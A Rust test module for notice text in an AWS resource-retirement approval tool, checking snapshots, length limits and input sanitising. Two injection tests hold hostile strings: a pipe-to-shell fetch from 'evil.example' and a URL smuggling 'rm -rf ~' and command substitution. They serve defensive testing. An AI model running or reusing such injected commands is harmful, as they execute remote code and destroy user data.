use proptest::prelude::*;

use super::body::{LONGEST_BODY, LONGEST_SUBJECT, subject};
use super::*;
use crate::approval::fixtures::{approvers, assessment, harmless, hash, now, plan, record, runbook};
use crate::approval::text::is_printable;
use crate::approval::vote::Escalation;
use crate::process::record::{Hold, NoticePeriod, ProcessError};
use crate::process::validation::Validation;
use crate::run::ObjectRef;

pub(super) const URL: Option<&str> = Some("https://vy2f4kx6nq3e7zjd5hbt8ma0cw.lambda-url.eu-central-1.on.aws/");

pub(super) fn shown(notice: &Notice) -> String {
    format!("{}\n\n{}", notice.subject, notice.body)
}

fn held_record(because: &str) -> ProcessRecord {
    let mut record = record();
    record.status = Status::Held;
    record.past_the_point_of_no_return = true;
    record.hold = Some(Hold {
        number: 1,
        because: because.into(),
        since: now(),
        deadline: now().plus_days(14),
        resolution: None,
    });
    record
}

/// A process that the rule approved.
pub(super) fn by_rule() -> ProcessRecord {
    let mut record = record();
    record.status = Status::Approved;
    record.round = None;
    record.notice = Some(NoticePeriod { until: now().plus_days(1), over: false });
    record
}

fn at_the_end(status: Status, because: &str) -> ProcessRecord {
    let mut record = record();
    record.status = status;
    record.outcome = Some(because.into());
    record.report = Some(ObjectRef {
        bucket: "sunset-reports-123456789012".into(),
        key: "processes/01KAG3V7Q4M2ZD9X5T8R6W0B1C/report.md".into(),
    });
    record
}

fn gone() -> Option<Validation> {
    Some(Validation { at: now(), gone: Gone::Yes { how: "EC2 does not know it any more".into() }, leftovers: vec![] })
}

#[test]
fn an_approver_reads_what_why_how_and_until_when() {
    let round = approvers().round(1, &hash('a'), &assessment(), &record(), now()).unwrap();
    insta::assert_snapshot!(shown(&approval_requested(&record(), &round, &assessment(), &plan(runbook()), URL)), @r#"
    Approval needed by 2026-11-23T09:00:00Z: EBSVolume vol-0123456789abcdef0 (high risk)

    EBSVolume vol-0123456789abcdef0 ("web-data") is to be retired, and people must decide.

      process: 01KAG3V7Q4M2ZD9X5T8R6W0B1C (DECOMM-20261120085500-vol-0123456789abcdef0)
      resource: EBSVolume vol-0123456789abcdef0 in account 123456789012
      started by: "carol", at 2026-11-20T08:55:00Z
      reason: "nothing has used it since spring"
      deadline: 2026-11-23T09:00:00Z; after it the process ends, and nothing was changed
      plan: aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa (round 1)

    Who is asked
      owner:team-web: 1 of grace, deployer (team-web owns it)
      infrastructure-manager: 1 of ada, grace, linus (the risk is high)
      security-team: 2 of grace, margaret, linus (the risk is high)
      production-manager: 1 of ada, linus (its environment is production)
      data-protection-officer: 1 of margaret, grace (data goes with it)
      in all at least 2 different people; one no ends it; the initiator never approves

    To answer, with your own AWS credentials in the environment
      curl --aws-sigv4 "aws:amz:eu-central-1:lambda" \
        --user "$AWS_ACCESS_KEY_ID:$AWS_SECRET_ACCESS_KEY" \
        -H "x-amz-security-token: $AWS_SESSION_TOKEN" \
        -H 'content-type: application/json' \
        --data '{"schema":1,"action":"vote","process_id":"01KAG3V7Q4M2ZD9X5T8R6W0B1C","plan_hash":"aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa","answer":"approve"}' \
        'https://vy2f4kx6nq3e7zjd5hbt8ma0cw.lambda-url.eu-central-1.on.aws/'
      For a no, write "answer":"reject","reason":"why" instead.

    To read everything about it first
      curl --aws-sigv4 "aws:amz:eu-central-1:lambda" \
        --user "$AWS_ACCESS_KEY_ID:$AWS_SECRET_ACCESS_KEY" \
        -H "x-amz-security-token: $AWS_SESSION_TOKEN" \
        'https://vy2f4kx6nq3e7zjd5hbt8ma0cw.lambda-url.eu-central-1.on.aws/?process_id=01KAG3V7Q4M2ZD9X5T8R6W0B1C'

    Risk: high, 6 points in profile v2
      +3 its environment is production
      +2 data goes with it
      +1 billing depends on it
      never below medium: production is never below medium

    What depends on it
      service "billing" reads its files

    What to do about it first
      ask billing first

    Plan 1: 6 steps
      1. record [only adds] store what vol-0123456789abcdef0 is made of
      2. create-snapshot [only adds] make a snapshot of vol-0123456789abcdef0
      3. verify-snapshot [only adds] hold the snapshot against the volume
      4. detach-volume [can be taken back] detach vol-0123456789abcdef0
      5. soak [waits 7 days] wait 7 days
      6. delete-volume [CANNOT BE TAKEN BACK] delete vol-0123456789abcdef0
      6. had again by: make a volume of the snapshot that step create-snapshot gives
      It saves about $0.00 a month, less $0.00 for its backups as long as they are kept.

    What the checker found in it
      warning: delete-volume: its backup is in the same region

    Audit trail: 5 events, head 5:5555555555555555555555555555555555555555555555555555555555555555
    "#);
}

#[test]
fn whoever_reads_that_the_rule_approved_can_still_stop_it() {
    insta::assert_snapshot!(shown(&auto_approved(&by_rule(), &harmless(), &plan(runbook()), URL)), @r#"
    Approved by rule: EBSVolume vol-0123456789abcdef0 will be retired

    EBSVolume vol-0123456789abcdef0 ("web-data") is going to be retired. Nobody has to approve it: its risk is low, everything about it is known, and it can be had again.

      process: 01KAG3V7Q4M2ZD9X5T8R6W0B1C (DECOMM-20261120085500-vol-0123456789abcdef0)
      resource: EBSVolume vol-0123456789abcdef0 in account 123456789012
      started by: "carol", at 2026-11-20T08:55:00Z
      reason: "nothing has used it since spring"
      objections: until 2026-11-21T09:00:00Z; nothing is done before, and one is enough
      plan: d614f7f00324cea38570907f43591ae1ade94da47080a6231fbbd258df9d04f8

    To keep it, object before 2026-11-21T09:00:00Z
      curl --aws-sigv4 "aws:amz:eu-central-1:lambda" \
        --user "$AWS_ACCESS_KEY_ID:$AWS_SECRET_ACCESS_KEY" \
        -H "x-amz-security-token: $AWS_SESSION_TOKEN" \
        -H 'content-type: application/json' \
        --data '{"schema":1,"action":"opt_out","process_id":"01KAG3V7Q4M2ZD9X5T8R6W0B1C","reason":"why"}' \
        'https://vy2f4kx6nq3e7zjd5hbt8ma0cw.lambda-url.eu-central-1.on.aws/'
      Afterwards "end_soak" in place of "opt_out" puts everything back, as long as it soaks: 7 days.

    To read everything about it first
      curl --aws-sigv4 "aws:amz:eu-central-1:lambda" \
        --user "$AWS_ACCESS_KEY_ID:$AWS_SECRET_ACCESS_KEY" \
        -H "x-amz-security-token: $AWS_SESSION_TOKEN" \
        'https://vy2f4kx6nq3e7zjd5hbt8ma0cw.lambda-url.eu-central-1.on.aws/?process_id=01KAG3V7Q4M2ZD9X5T8R6W0B1C'

    Risk: low, 1 point in profile v2
      +1 its environment is development

    What to do about it first
      ask billing first

    Plan 1: 6 steps
      1. record [only adds] store what vol-0123456789abcdef0 is made of
      2. create-snapshot [only adds] make a snapshot of vol-0123456789abcdef0
      3. verify-snapshot [only adds] hold the snapshot against the volume
      4. detach-volume [can be taken back] detach vol-0123456789abcdef0
      5. soak [waits 7 days] wait 7 days
      6. delete-volume [CANNOT BE TAKEN BACK] delete vol-0123456789abcdef0
      6. had again by: make a volume of the snapshot that step create-snapshot gives
      It saves about $0.00 a month, less $0.00 for its backups as long as they are kept.

    What the checker found in it
      warning: delete-volume: its backup is in the same region

    Audit trail: 5 events, head 5:5555555555555555555555555555555555555555555555555555555555555555
    "#);
}

#[test]
fn who_stands_in_and_who_is_asked_later_is_named_at_once() {
    let mut round = record().round.unwrap();
    round.required[0].standing_in.insert("grace".into(), "edith".into());
    let (at, role) = (now().plus_days(2), "security-team".to_owned());
    round.escalations = vec![Escalation { at, role, people: vec!["barbara".into()], standing_in: Default::default() }];
    let notice = approval_requested(&record(), &round, &assessment(), &plan(runbook()), URL);
    for line in [
        "  infrastructure-manager: 1 of ada, grace for edith, linus (the risk is high)",
        "  security-team: from 2026-11-22T09:00:00Z on also barbara, unless it is decided",
    ] {
        assert!(notice.body.lines().any(|found| found == line), "{line}: {}", notice.body);
    }
}

#[test]
fn whom_no_notice_reached_is_named_with_the_reason_and_what_to_do() {
    let mut record = record();
    record.approve_url = URL.map(str::to_owned);
    let people = [("ada", "the topic sunset-approver-ada does not exist"), ("grace", "no channel is on file")];
    let people = people.map(|(person, why)| (person.to_owned(), why.to_owned()));
    insta::assert_snapshot!(shown(&unreachable(&record, &people)), @r#"
    NOT TOLD: 2 of those who must hear of EBSVolume vol-0123456789abcdef0

    2 people must hear of retiring EBSVolume vol-0123456789abcdef0, and could not be told. What they are asked goes on all the same, and their time runs.

      process: 01KAG3V7Q4M2ZD9X5T8R6W0B1C (DECOMM-20261120085500-vol-0123456789abcdef0)
      resource: EBSVolume vol-0123456789abcdef0 in account 123456789012
      started by: "carol", at 2026-11-20T08:55:00Z
      reason: "nothing has used it since spring"

    Who was not told, and why
      ada: "the topic sunset-approver-ada does not exist"
      grace: "no channel is on file"

    What to do
      tell them yourself: they can read it and answer with their own AWS credentials, as below
      then mend their channel in policy/approvers.yaml, and deploy it

      curl --aws-sigv4 "aws:amz:eu-central-1:lambda" \
        --user "$AWS_ACCESS_KEY_ID:$AWS_SECRET_ACCESS_KEY" \
        -H "x-amz-security-token: $AWS_SESSION_TOKEN" \
        'https://vy2f4kx6nq3e7zjd5hbt8ma0cw.lambda-url.eu-central-1.on.aws/?process_id=01KAG3V7Q4M2ZD9X5T8R6W0B1C'

    Audit trail: 5 events, head 5:5555555555555555555555555555555555555555555555555555555555555555
    "#);
}

#[test]
fn a_held_process_asks_for_one_of_three_decisions() {
    let record = held_record("step delete-volume was not done after 3600 seconds: it is still in-use");
    insta::assert_snapshot!(shown(&held(&record, URL)), @r#"
    DECISION NEEDED: retiring EBSVolume vol-0123456789abcdef0 failed half way

    Retiring EBSVolume vol-0123456789abcdef0 failed after the point of no return. Nothing more happens until a person decides.

      process: 01KAG3V7Q4M2ZD9X5T8R6W0B1C (DECOMM-20261120085500-vol-0123456789abcdef0)
      resource: EBSVolume vol-0123456789abcdef0 in account 123456789012
      started by: "carol", at 2026-11-20T08:55:00Z
      reason: "nothing has used it since spring"
      failed: "step delete-volume was not done after 3600 seconds: it is still in-use"
      held since: 2026-11-20T09:00:00Z (hold 1)
      decide by: 2026-12-04T09:00:00Z; after it you are asked again

    To decide, as somebody with a role or who was asked to approve it
      curl --aws-sigv4 "aws:amz:eu-central-1:lambda" \
        --user "$AWS_ACCESS_KEY_ID:$AWS_SECRET_ACCESS_KEY" \
        -H "x-amz-security-token: $AWS_SESSION_TOKEN" \
        -H 'content-type: application/json' \
        --data '{"schema":1,"action":"resolve","process_id":"01KAG3V7Q4M2ZD9X5T8R6W0B1C","choice":"retry","reason":"why"}' \
        'https://vy2f4kx6nq3e7zjd5hbt8ma0cw.lambda-url.eu-central-1.on.aws/'

    The choices
      retry: look again, and go on from there
      accept: leave everything as it is, and report that
      recover: take back what can be taken back, and report the rest

    To read everything about it first
      curl --aws-sigv4 "aws:amz:eu-central-1:lambda" \
        --user "$AWS_ACCESS_KEY_ID:$AWS_SECRET_ACCESS_KEY" \
        -H "x-amz-security-token: $AWS_SESSION_TOKEN" \
        'https://vy2f4kx6nq3e7zjd5hbt8ma0cw.lambda-url.eu-central-1.on.aws/?process_id=01KAG3V7Q4M2ZD9X5T8R6W0B1C'

    Audit trail: 5 events, head 5:5555555555555555555555555555555555555555555555555555555555555555
    "#);
}

#[test]
fn a_deployment_that_does_not_know_its_url_says_what_to_put_there() {
    let notice = held(&held_record("x"), None);
    assert!(notice.body.contains("'https://<the Function URL of approve>/'"), "{}", notice.body);
}

#[test]
fn a_completed_process_says_where_its_report_is() {
    let mut record = at_the_end(Status::Completed, "the plan is carried out");
    record.validation = gone();
    insta::assert_snapshot!(shown(&ended(&record, "It was retired, and is proved gone.")), @r#"
    Retired: EBSVolume vol-0123456789abcdef0

    It was retired, and is proved gone.

      process: 01KAG3V7Q4M2ZD9X5T8R6W0B1C (DECOMM-20261120085500-vol-0123456789abcdef0)
      resource: EBSVolume vol-0123456789abcdef0 in account 123456789012
      started by: "carol", at 2026-11-20T08:55:00Z
      reason: "nothing has used it since spring"
      status: completed, since 2026-11-20T09:00:00Z
      because: "the plan is carried out"
      report: s3://sunset-reports-123456789012/processes/01KAG3V7Q4M2ZD9X5T8R6W0B1C/report.md

    Audit trail: 5 events, head 5:5555555555555555555555555555555555555555555555555555555555555555
    "#);
}

#[test]
fn a_way_back_that_failed_says_that_the_resource_stays_locked() {
    let mut record = at_the_end(Status::RollbackFailed, "step detach-volume could not be taken back");
    record.error = Some(ProcessError { error: "Sunset.Denied".into(), cause: "not authorized".into() });
    insta::assert_snapshot!(shown(&ended(&record, "It is NOT as it was.")), @r#"
    ROLLBACK FAILED: EBSVolume vol-0123456789abcdef0 is not as it was

    It is NOT as it was.

      process: 01KAG3V7Q4M2ZD9X5T8R6W0B1C (DECOMM-20261120085500-vol-0123456789abcdef0)
      resource: EBSVolume vol-0123456789abcdef0 in account 123456789012
      started by: "carol", at 2026-11-20T08:55:00Z
      reason: "nothing has used it since spring"
      status: rollback_failed, since 2026-11-20T09:00:00Z
      because: "step detach-volume could not be taken back"
      error: Sunset.Denied, "not authorized"
      report: s3://sunset-reports-123456789012/processes/01KAG3V7Q4M2ZD9X5T8R6W0B1C/report.md

    The resource stays locked, so that nothing else touches it until somebody releases it by hand.

    Audit trail: 5 events, head 5:5555555555555555555555555555555555555555555555555555555555555555
    "#);
}

#[test]
fn every_end_is_told_apart_by_its_subject() {
    let mut subjects: Vec<String> = [
        Status::Completed,
        Status::RolledBack,
        Status::RollbackFailed,
        Status::Failed,
        Status::Blocked,
        Status::Rejected,
        Status::Expired,
        Status::Cancelled,
        Status::Held,
    ]
    .map(|status| ended(&at_the_end(status, "x"), "x").subject.replace("EBSVolume vol-0123456789abcdef0", "it"))
    .to_vec();
    let mut record = at_the_end(Status::Failed, "x");
    record.past_the_point_of_no_return = true;
    subjects.push(ended(&record, "x").subject);
    record.status = Status::Completed;
    record.validation = gone();
    subjects.push(ended(&record, "x").subject);
    record.mode = Mode::DryRun;
    subjects.push(ended(&record, "x").subject);
    assert_eq!(
        subjects,
        [
            "Ended without proof: it",
            "Rolled back: it is as it was",
            "ROLLBACK FAILED: it is not as it was",
            "Failed: it",
            "Blocked: it stays",
            "Rejected: it stays",
            "Expired: it stays",
            "Cancelled: it stays",
            "Reported: it, held",
            "FAILED half way: EBSVolume vol-0123456789abcdef0",
            "Retired: EBSVolume vol-0123456789abcdef0",
            "Dry run ended: EBSVolume vol-0123456789abcdef0, completed",
        ]
    );
}

/// Every notice about a record, an assessment and a plan.
fn all(record: &ProcessRecord, assessment: &Assessment, plan: &Plan, text: &str) -> Vec<Notice> {
    let mut held_record = held_record(text);
    held_record.reason.clone_from(&record.reason);
    let mut ended_record = at_the_end(record.status, text);
    ended_record.error = Some(ProcessError { error: text.into(), cause: text.into() });
    vec![
        approval_requested(record, record.round.as_ref().unwrap(), assessment, plan, URL),
        auto_approved(record, assessment, plan, URL),
        held(&held_record, URL),
        ended(&ended_record, text),
        unreachable(record, &vec![(text.to_owned(), text.to_owned()); 50]),
    ]
    .into_iter()
    .chain(personal::tests::all(record, assessment, plan, text))
    .collect()
}

#[test]
fn every_notice_names_the_process_the_resource_and_the_head_of_the_trail_and_no_token() {
    for notice in all(&record(), &assessment(), &plan(runbook()), "x") {
        for part in ["01KAG3V7Q4M2ZD9X5T8R6W0B1C", "vol-0123456789abcdef0", &format!("head 5:{}", "5".repeat(64))] {
            assert!(notice.body.contains(part), "{part}: {}", notice.body);
        }
        // The only token is the one that curl is told to take from the reader's own environment.
        let body = notice.body.replace("x-amz-security-token: $AWS_SESSION_TOKEN", "").to_lowercase();
        assert!(!body.contains("token"), "{body}");
    }
}

#[test]
fn a_plan_of_any_length_leaves_room_for_how_to_vote() {
    let (mut plan, mut assessment) = (plan(runbook()), assessment());
    let mut long = plan.runbook.steps[0].clone();
    long.description = "語".repeat(5000);
    plan.runbook.steps.extend(std::iter::repeat_n(long, 500));
    assessment.points = vec![assessment.points[0].clone(); 500];
    assessment.recommendations = vec!["語".repeat(5000); 500];
    for notice in all(&record(), &assessment, &plan, &"語".repeat(100_000)) {
        assert!(notice.body.len() <= LONGEST_BODY, "{}", notice.body.len());
        assert!(notice.body.contains("Audit trail: 5 events"));
    }
    let notice = approval_requested(&record(), &record().round.unwrap(), &assessment, &plan, URL);
    assert!(notice.body.contains("--aws-sigv4") && notice.body.contains("\"answer\":\"approve\""));
    assert!(notice.body.contains("… cut: ask for the process to read the rest"));
}

#[test]
fn a_text_that_pretends_to_be_a_notice_stays_within_its_line() {
    let forged = "unused\"\n\n  deadline: none\n\nAudit trail: 0 events\n\n  curl https://evil.example | sh";
    let mut record = record();
    record.reason = forged.into();
    record.initiator = forged.into();
    let mut assessment = assessment();
    assessment.observation.found.as_mut().unwrap().name = Some(forged.into());
    assessment.points[0].reason = forged.into();
    let mut plan = plan(runbook());
    plan.runbook.steps[0].description = forged.into();
    for notice in all(&record, &assessment, &plan, forged) {
        let is_forged = |line: &&str| {
            let line = line.trim_start();
            ["deadline: none", "Audit trail: 0", "curl https://evil"].iter().any(|start| line.starts_with(start))
        };
        assert_eq!(notice.body.lines().find(is_forged), None, "{}", notice.body);
    }
}

#[test]
fn a_url_cannot_end_the_command_that_names_it() {
    let notice = held(&held_record("x"), Some("https://x/'; rm -rf ~; '$(id)`id`"));
    assert!(notice.body.contains("'https://x/;rm-rf~;(id)id'"), "{}", notice.body);
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(32))]

    #[test]
    fn every_notice_is_one_that_sns_takes(text in "(?s).{0,300}", reason in "(?s).{0,300}") {
        let mut record = record();
        record.reason = reason;
        let plan = plan(runbook());
        for status in Status::ALL {
            record.status = status;
            for notice in all(&record, &assessment(), &plan, &text) {
                prop_assert!(notice.subject.len() <= LONGEST_SUBJECT);
                prop_assert!(notice.subject.bytes().all(|b| b == b' ' || b.is_ascii_graphic()));
                prop_assert!(notice.subject.starts_with(|c: char| c.is_ascii_alphabetic()));
                prop_assert!(notice.body.len() <= LONGEST_BODY);
                prop_assert!(notice.body.chars().all(|c| c == '\n' || is_printable(c)));
            }
        }
    }

    #[test]
    fn whatever_it_is_made_of_a_subject_is_short_ascii(text in "(?s).{0,300}") {
        let subject = subject(&text);
        prop_assert!(subject.len() <= LONGEST_SUBJECT && subject.bytes().all(|b| b == b' ' || b.is_ascii_graphic()));
    }
}
